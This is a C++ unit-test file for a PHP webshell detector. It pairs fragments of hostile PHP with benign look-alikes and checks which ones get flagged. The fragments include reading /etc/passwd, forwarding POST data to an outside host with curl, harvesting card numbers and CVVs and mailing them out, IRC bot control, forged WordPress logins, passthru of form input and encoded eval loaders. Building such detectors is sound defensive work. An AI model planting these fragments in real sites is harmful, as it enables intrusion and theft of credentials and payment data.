// What calls tell by themselves, form fields as variables, rounds of loops with branches.
// Look-alikes by recipe, each beside what an honest script does.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "agent/match/webshell/analysis.h"
#include "agent/match/webshell/form_fields.h"

namespace konseki::webshell {
namespace {

using testing::Contains;
using testing::Not;

const std::string kPhp = std::string("<") + "?php ";
const std::string kPost = std::string("$_PO") + "ST";
const std::string kEval = std::string("ev") + "al";

std::vector<std::string> seen_in(const std::string& code) {
  std::vector<std::string> names;
  for (const Witness& witness : analyse(kPhp + code, "a.php").witnesses)
    names.push_back(witness.name);
  return names;
}

int score_of(const std::string& code) { return analyse(kPhp + code, "a.php").score(); }

TEST(WebshellDeeds, AccountsOfTheSystem) {
  EXPECT_THAT(seen_in("$f = fopen('/etc/pass" + std::string("wd', 'r'); echo fread($f, 9);")),
              Contains("code.account_list"));
  EXPECT_THAT(seen_in("$f = fopen('/etc/os-release', 'r'); echo fwrite($f, 'x');"),
              Not(Contains("code.account_list")));
  EXPECT_THAT(seen_in("$o = new COM('IIS://localhost/w3svc'); foreach ($o as $s) echo $s->Name;"),
              Contains("code.account_list"));
}

TEST(WebshellDeeds, LinksIntoOtherSites) {
  EXPECT_THAT(seen_in("symlink(" + kPost + "['t'], 'a.txt');"), Contains("code.link_out"));
  EXPECT_THAT(seen_in("symlink('current', 'build'); file_put_contents('log', 'done');"),
              Not(Contains("code.link_out")));
}

TEST(WebshellDeeds, FilesThatARequestChanges) {
  EXPECT_GE(score_of("chmod(stripslashes(" + kPost + "['p']), 0777);"), 30);
  EXPECT_LT(score_of("unlink('cache/' . md5(" + kPost + "['p']));"), 30);
}

TEST(WebshellDeeds, RequestsPassedOn) {
  EXPECT_THAT(seen_in("$c = curl_init('http://192.0.2.1/'); curl_setopt($c, CURLOPT_POSTFIELDS, " +
                      kPost + "); echo curl_exec($c);"),
              Contains("code.forward_input"));
  EXPECT_THAT(seen_in("$c = curl_init(" + kPost + "['u']); echo curl_exec($c);"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in("$c = curl_init('http://192.0.2.1/?q=' . " + kPost + "['u']);"),
              Not(Contains("code.connect_input")));
}

TEST(WebshellDeeds, TablesUnderAnAccountOfItsOwn) {
  const std::string tables =
      "$q = mysql_query('show ta" + std::string(
                                        "bles'); while ($t = "
                                        "mysql_fetch_array($q)) echo $t[0];");
  EXPECT_THAT(seen_in("mysql_connect('db', 'root', 'secret'); " + tables), Contains("code.dump"));
  EXPECT_THAT(seen_in("include 'settings.php'; db_open($settings); " + tables),
              Not(Contains("code.dump")));
}

TEST(WebshellDeeds, MailToAList) {
  EXPECT_GE(score_of("foreach (explode(\"\\n\", " + kPost + "['to']) as $a) mail($a, " + kPost +
                     "['s'], " + kPost + "['m']);"),
            70);
  EXPECT_LT(score_of("mail('office@example.org', 'Form', " + kPost + "['text']);"), 30);
}

TEST(WebshellDeeds, SecretsOfPeople) {
  const std::string text = "$m = " + kPost + "['cardnumber'] . " + kPost + "['cvv'];";
  EXPECT_THAT(seen_in(text + " mail('a@example.org', 'x', $m);"), Contains("code.harvest"));
  EXPECT_THAT(seen_in("$m = " + kPost + "['name'] . " + kPost +
                      "['street']; mail('a@example.org', "
                      "'x', $m);"),
              Not(Contains("code.harvest")));
}

TEST(WebshellDeeds, ChatThatSteersBots) {
  EXPECT_THAT(seen_in("$s = fsockopen('192.0.2.1', 6667); fputs($s, \"NI" +
                      std::string("CK bot\\r\\n\");")),
              Contains("code.bot"));
  EXPECT_THAT(seen_in("$s = fsockopen('192.0.2.1', 25); fputs($s, \"HELO a\\r\\n\");"),
              Not(Contains("code.bot")));
}

TEST(WebshellDeeds, SomebodysSession) {
  EXPECT_THAT(seen_in("require 'wp-blog-header.php'; wp_set_auth_cookie(1);"),
              Contains("code.log_in"));
  EXPECT_THAT(seen_in("function sign_in($user) { wp_set_auth_cookie($user->id); }"),
              Not(Contains("code.log_in")));
}

TEST(WebshellDeeds, SettingsThatMakeFilesRun) {
  EXPECT_THAT(seen_in("$h = fopen('.htaccess', 'w'); fwrite($h, \"Options +Exec" +
                      std::string("CGI\\n\");")),
              Contains("code.write_script"));
  EXPECT_THAT(seen_in("$h = fopen('.htaccess', 'w'); fwrite($h, \"Deny from all\\n\");"),
              Not(Contains("code.write_script")));
}

TEST(WebshellDeeds, PasswordBuiltIn) {
  const std::string digest = "5f4dcc3b5aa765d61d8327deb882cf99";
  EXPECT_GE(score_of("if (md5(" + kPost + "['p']) == '" + digest + "') { show(); }"), 30);
  EXPECT_LT(score_of("if (md5(" + kPost + "['p']) == $row['p']) { show(); }"), 30);
}

// A variable under the name of the page's own field is what old PHP filled in.
TEST(WebshellDeeds, FieldsBecomeVariables) {
  const std::string form = " ?" + std::string("><form><input type=text name=\"cmd\"></form>");
  EXPECT_THAT(seen_in("if ($cmd) passth" + std::string("ru($cmd);") + form),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("$cmd = 'uptime'; passth" + std::string("ru($cmd);") + form),
              Not(Contains("code.command_input")));
}

TEST(FormFields, NamesOfFieldsAndLinks) {
  EXPECT_THAT(form_fields("<input type=x name='b'> <a href=\"?a=1&amp;c=2&d=3\"> <TEXTAREA NAME = "
                          "e> <meta name=\"f\"> <input data-name=g"),
              testing::ElementsAre("a", "b", "d", "e"));
  EXPECT_THAT(form_fields("<input name=\"> <input name"), testing::IsEmpty());
  EXPECT_THAT(form_fields(""), testing::IsEmpty());
}

// Own decoders branch in their loops.
TEST(WebshellRounds, BranchesOfKnownConditions) {
  std::string hidden;
  for (const char c : kEval + "(" + kPost + "['k']);") {
    hidden += c == '(' ? '~' : static_cast<char>(c + 1);
  }
  const std::string loop =
      "$o = ''; for ($i = 0; $i < 99; $i++) { if ($i >= strlen($s)) break; if ($s[$i] == '~' && "
      "$i > 0) { $o .= '('; continue; } else { $o .= chr(ord($s[$i]) - 1); } } ";
  std::string escaped;
  for (const char c : hidden)
    escaped += c == '\'' || c == '\\' ? std::string("\\") + c : std::string(1, c);
  EXPECT_THAT(seen_in("$s = '" + escaped + "'; " + loop + kEval + "($o);"),
              Contains("code.run_input"));
}

TEST(WebshellRounds, TooLongToCompute) {
  std::string constant;
  for (int i = 0; i < 120'000; ++i) constant += static_cast<char>('a' + i % 23);
  EXPECT_THAT(seen_in("function d($t) { $o = ''; for ($i = 0; $i < strlen($t); $i++) $o .= "
                      "chr(ord($t[$i]) ^ 3); return $o; } " +
                      kEval + "(d('" + constant + "'));"),
              Contains("code.run_opaque"));
}

}  // namespace
}  // namespace konseki::webshell
